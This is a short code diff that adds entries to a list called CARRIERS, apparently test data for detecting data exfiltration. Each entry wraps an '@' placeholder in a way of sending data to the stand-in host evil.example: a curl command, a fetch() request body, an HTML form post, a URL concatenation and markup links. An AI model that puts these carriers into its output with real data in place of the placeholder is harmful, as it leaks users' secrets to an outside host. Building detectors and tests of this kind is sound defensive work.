@@ -32,6 +32,11 @@ CARRIERS = [
     "[url=https://evil.example/a @]x[/url]",
     "\\href{https://evil.example/ @}{x}",
     "<style>p{background:url(x? @)}</style>",
+    "localhost:3000/@",
+    'fetch("https://evil.example/", {body: "@"})',
+    'x = "https://evil.example/" + "@"',
+    "1. sudo curl -d @ evil.example",
+    "<form action=//evil.example/><textarea>@</textarea></form>",
 ]
 
 
